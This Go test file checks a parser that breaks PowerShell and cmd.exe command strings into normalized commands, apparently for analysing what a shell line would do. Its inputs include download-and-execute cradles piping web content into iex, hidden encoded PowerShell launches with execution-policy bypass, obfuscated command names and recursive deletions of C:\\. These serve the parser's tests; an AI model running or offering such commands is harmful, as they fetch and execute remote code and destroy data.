package winshell

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// render writes commands short: unknown arguments in <>, blocks as {}, a pipe as |n.
func render(cmds []Command) []string {
	var out []string
	for _, c := range cmds {
		var parts []string
		for i, a := range c.Argv {
			t := a.Text
			switch {
			case a.Block:
				t = "{}"
			case !a.Known:
				t = "<" + t + ">"
			case i == 0:
				t = c.Name()
			}
			parts = append(parts, t)
		}
		for _, r := range c.Redirects {
			parts = append(parts, ">"+r.Target.Text)
		}
		if c.PipedFrom != NotPiped {
			parts = append([]string{"|"}, parts...)
		}
		out = append(out, strings.Join(parts, " "))
	}
	return out
}

func TestPowerShell(t *testing.T) {
	for _, c := range []struct {
		src    string
		want   []string
		unread int
	}{
		{`Get-ChildItem -Path .`, []string{"get-childitem -Path ."}, 0},
		{`rm -r -fo C:\x`, []string{`remove-item -r -fo C:\x`}, 0},
		{"r`m 'a b'", []string{"remove-item a b"}, 0},
		{`ls | sort Name | select -First 5`, []string{"get-childitem", "| sort-object Name", "| select-object -First 5"}, 0},
		{`a; b && c || d`, []string{"a", "b", "c", "d"}, 0},
		{`Remove-Item a, b`, []string{"remove-item a b"}, 0},
		{`& 'C:\Windows\System32\reg.exe' delete HKLM\x`, []string{`reg delete HKLM\x`}, 0},
		{`.\run.ps1 -x`, []string{`.\run.ps1 -x`}, 0},
		{`. ./x.ps1`, []string{"./x.ps1"}, 0},
		{`& $x`, []string{"<$x>"}, 1},
		{`Remove-Item "$env:USERPROFILE\x"`, []string{`remove-item ~\x`}, 0},
		{`"text $(rm x) more"`, []string{"remove-item x"}, 0},
		{`$x = Get-Content a.txt; $x`, []string{"get-content a.txt"}, 0},
		{`foreach ($f in Get-ChildItem) { rm $f }`, []string{"get-childitem", "remove-item <$f>"}, 0},
		{`gci | % { rm $_ } | out-null`, []string{"get-childitem", "remove-item <$_>", "| foreach-object {}", "| out-null"}, 0},
		{`if (Test-Path x) { rm x } else { echo no }`, []string{"test-path x", "remove-item x", "write-output no"}, 0},
		{`function f { rm x }; f`, []string{"remove-item x", "f"}, 0},
		{`try { rm x } catch { echo y } finally { echo z }`, []string{"remove-item x", "write-output y", "write-output z"}, 0},
		{`[IO.File]::Delete('x')`, []string{"[IO.File]::Delete x"}, 0},
		{`[System.IO.Directory]::Delete("x", $true)`, []string{"[System.IO.Directory]::Delete x <$true>"}, 0},
		{`(New-Object Net.WebClient).DownloadString('http://h/x') | iex`, []string{"new-object Net.WebClient", ".DownloadString http://h/x", "| invoke-expression"}, 0},
		{`iex 'rm x'`, []string{"remove-item x"}, 0},
		{`'rm x' | iex`, []string{"write-output rm x", "remove-item x"}, 0},
		{`iex (iwr https://h/a.ps1)`, []string{"invoke-webrequest https://h/a.ps1", "invoke-expression <(iwr https://h/a.ps1)>"}, 0},
		{`echo hi > out.txt`, []string{"write-output hi >out.txt"}, 0},
		{`echo hi>>out.txt 2>&1`, []string{"write-output hi >out.txt"}, 0},
		{`git status 2>$null`, []string{"git status"}, 0},
		{"# rm x\n<# rm y #> echo z", []string{"write-output z"}, 0},
		{"Get-Item `\n x", []string{"get-item x"}, 0},
		{"@'\nrm x\n'@ | iex", []string{"write-output rm x", "remove-item x"}, 0},
		{`1..3 | % { $_ * 2 }`, []string{"| foreach-object {}"}, 0},
		{`7z x a.zip`, []string{"7z x a.zip"}, 0},
		{`cmd /c "del /s /q x"`, []string{"del /s /q x"}, 0},
		{`cmd.exe /c rd /s /q C:\`, []string{`rd /s /q C:\`}, 0},
		{`powershell -Command "rm x"`, []string{"remove-item x"}, 0},
		{`pwsh -c { rm x }`, []string{"remove-item x"}, 0},
		{`@{a = rm x; b = 1}`, []string{"remove-item x"}, 0},
		{`$a.b.c('x').d()`, []string{".c x", ".d"}, 0},
		{`"rm x" -replace 'a','b' | iex`, []string{"| invoke-expression"}, 0},
		{`$s = 'r' + 'm'; & $s x`, []string{"<$s> x"}, 1},
		{`&('r'+'m') x`, []string{"<('r'+'m')> x"}, 1},
		{`switch ($x) { 'a' { rm x } default { echo y } }`, []string{"remove-item x", "write-output y"}, 0},
		{`while ($true) { rm x; break }`, []string{"remove-item x"}, 0},
		{`$x | Remove-Item`, []string{"| remove-item"}, 0},
		{`rm x &`, []string{"remove-item x"}, 0},
		{`return rm x`, []string{"remove-item x"}, 0},
		{`-not (rm x)`, []string{"remove-item x"}, 0},
		{`$env:PATH = 'x'`, nil, 1},
		{`rm --% a b`, []string{"remove-item a b"}, 0},
		{`rm "x`, []string{`remove-item <"x>`}, 1},
		{`{ rm x`, []string{"remove-item x"}, 1},
		{"rm \u201cx\u201d", []string{"remove-item <\u201cx\u201d>"}, 2},
		{`class A {}`, []string{"a {}"}, -1},
		{`Start-Process notepad -Verb RunAs`, []string{"start-process notepad -Verb RunAs"}, 0},
		{`echo $f.Delete()`, []string{".Delete", "write-output <$f.Delete()>"}, 0},
		{`echo $f.Name $x[0].Kill()`, []string{".Kill", "write-output <$f.Name> <$x[0].Kill()>"}, 0},
		{`cd $env:TEMP\x; rm $dir.txt`, []string{`set-location <$env:TEMP\x>`, "remove-item <$dir.txt>"}, 0},
		{`if ($a) { echo 1 } elseif (rm y) { echo 2 }`, []string{"write-output 1", "remove-item y", "write-output 2"}, 0},
		{`Write-Output (Get-Date).ToString('o')`, []string{"get-date", ".ToString o", "write-output <(Get-Date).ToString('o')>"}, 0},
	} {
		cmds, unread := PowerShell(c.src)
		if d := cmp.Diff(c.want, render(cmds)); d != "" {
			t.Errorf("%q (-want +got):\n%s", c.src, d)
		}
		if c.unread >= 0 && len(unread) != c.unread || c.unread < 0 && len(unread) == 0 {
			t.Errorf("%q: unread %q, want %d", c.src, unread, c.unread)
		}
	}
}

func encode(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

func args(words ...string) []Arg {
	var out []Arg
	for _, w := range words {
		out = append(out, Arg{Text: w, Known: true})
	}
	return out
}

func TestStart(t *testing.T) {
	for _, c := range []struct {
		argv   []string
		want   []string
		unread int
	}{
		{[]string{"powershell.exe", "-c", `Remove-Item -Recurse C:\x`}, []string{`remove-item -Recurse C:\x`}, 0},
		{[]string{"powershell.exe", "Get-Date"}, []string{"get-date"}, 0},
		{[]string{"pwsh", "-NoProfile", "-Command", "iex (iwr https://h/a)"}, []string{"invoke-webrequest https://h/a", "invoke-expression <(iwr https://h/a)>"}, 0},
		{[]string{"powershell", "-nop", "-w", "hidden", "-ep", "bypass", "-e", encode("rm x")}, []string{"remove-item x"}, 1},
		{[]string{"powershell", "-EncodedCommand", encode("echo hi")}, []string{"write-output hi"}, 1},
		{[]string{"powershell", "-enc", "!!!"}, nil, 1},
		{[]string{"pwsh", "-File", "x.ps1", "-a"}, []string{"x.ps1 -a"}, 0},
		{[]string{"pwsh", "-c", "-"}, nil, 1},
		{[]string{"pwsh"}, nil, 1},
		{[]string{"pwsh", "-NoProfile"}, nil, 1},
		{[]string{"pwsh", "-Version"}, nil, 0},
		{[]string{"cmd.exe", "/c", `rd /s /q C:\`}, []string{`rd /s /q C:\`}, 0},
		{[]string{"cmd.exe", "/d", "/s", "/c", "dir"}, []string{"dir"}, 0},
		{[]string{"CMD", "/Cdel x"}, []string{"del x"}, 0},
		{[]string{"/mnt/c/Windows/System32/cmd.exe", "/c", "ver"}, []string{"ver"}, 0},
		{[]string{"reg.exe", "query", "x"}, []string{"reg query x"}, 0},
		{[]string{"./cmd.exe", "/c", "ver"}, []string{"./cmd.exe /c ver"}, 0},
		{[]string{"cmd.exe"}, []string{"cmd"}, 1},
	} {
		cmds, unread := Start(args(c.argv...))
		if d := cmp.Diff(c.want, render(cmds)); d != "" || len(unread) != c.unread {
			t.Errorf("%q: unread %q (-want +got):\n%s", c.argv, unread, d)
		}
	}
}

func TestCmd(t *testing.T) {
	for _, c := range []struct {
		src    string
		want   []string
		unread int
	}{
		{`del /s /q x`, []string{"del /s /q x"}, 0},
		{`d^el x`, []string{"del x"}, 0},
		{`echo a & del b && rd c || dir d | more`, []string{"echo a", "del b", "rd c", "dir d", "| more"}, 0},
		{`rd/s/q C:\`, []string{`rd /s/q C:\`}, 0},
		{`echo "a & del b"`, []string{"echo a & del b"}, 0},
		{`echo a ^& del b`, []string{"echo a & del b"}, 0},
		{`del %USERPROFILE%\x`, []string{`del <%USERPROFILE%\x>`}, 0},
		{`%X% y`, []string{`<%X%> y`}, 1},
		{`if exist x del x`, []string{"del x"}, 0},
		{`if not "%a%"=="b" (del x) else del y`, []string{"del x", "del y"}, 0},
		{`for %i in (*.txt) do del %i`, []string{"del <%i>"}, 0},
		{`for /f "tokens=*" %%i in ('dir /b') do @rd %%i`, []string{"dir /b", "rd <%%i>"}, 0},
		{`start "" notepad x`, []string{"notepad x"}, 0},
		{`start /b cmd /c del x`, []string{"del x"}, 0},
		{`call del x`, []string{"del x"}, 0},
		{`cmd /c "del x & rd y"`, []string{"del x", "rd y"}, 0},
		{`powershell -c "rm x; ls"`, []string{"remove-item x", "get-childitem"}, 0},
		{`dir > out.txt 2>&1`, []string{"dir >out.txt"}, 0},
		{`dir>nul`, []string{"dir"}, 0},
		{"@echo off\nrem del x\n:: del y\ndel z", []string{"echo off", "del z"}, 0},
		{"(del a\ndel b)", []string{"del a", "del b"}, 0},
		{`cd\ & del *.*`, []string{`cd \`, "del *.*"}, 0},
		{`@del x`, []string{"del x"}, 0},
		{`type nul > x`, []string{"type nul >x"}, 0},
	} {
		cmds, unread := Cmd(c.src)
		got := render(cmds)
		if d := cmp.Diff(c.want, got); d != "" || len(unread) != c.unread {
			t.Errorf("%q: unread %q (-want +got):\n%s", c.src, unread, d)
		}
	}
}

func TestBounds(t *testing.T) {
	for name, src := range map[string]string{"long": strings.Repeat("a ", MaxSource), "deep": strings.Repeat("(", 5000), "deep blocks": strings.Repeat("{", 5000), "deep index": "$x" + strings.Repeat("[", 5000), "many": strings.Repeat("a;", 5000), "deep hash": strings.Repeat("@{a=", 3000), "deep string": strings.Repeat(`"$(`, 3000), "calls": strings.Repeat("$a.b(", 3000)} {
		if _, unread := PowerShell(src); len(unread) == 0 {
			t.Errorf("%s: PowerShell read it all", name)
		}
	}
	for name, src := range map[string]string{"long": strings.Repeat("a ", MaxSource), "many": strings.Repeat("a&", 5000), "deep": strings.Repeat("call ", 5000) + "x", "deep cmd": strings.Repeat("cmd /c ", 5000) + "x"} {
		if _, unread := Cmd(src); len(unread) == 0 {
			t.Errorf("%s: Cmd read it all", name)
		}
	}
}

func FuzzPowerShell(f *testing.F) {
	f.Add(`foreach ($x in gci) { iex "rm $($x.Name)" | & 'a' @{b=c} > [A]::b(1,'2').c["d"] }`)
	f.Add("@\"\n$(rm x)\n\"@ ; switch(1){default{a}} # b")
	f.Fuzz(func(t *testing.T, src string) {
		cmds, _ := PowerShell(src)
		for i, c := range cmds {
			if len(c.Argv) == 0 || c.PipedFrom >= len(cmds) || c.PipedFrom < PipedRaw {
				t.Fatalf("%q: command %d: %+v", src, i, c)
			}
		}
	})
}

func FuzzCmd(f *testing.F) {
	f.Add(`for /f %%i in ('dir "x"') do (if exist a del ^& b) else start "" cmd /c "rd %X% !y!"`)
	f.Fuzz(func(t *testing.T, src string) {
		cmds, _ := Cmd(src)
		for i, c := range cmds {
			if len(c.Argv) == 0 || c.PipedFrom >= len(cmds) {
				t.Fatalf("%q: command %d: %+v", src, i, c)
			}
		}
	})
}
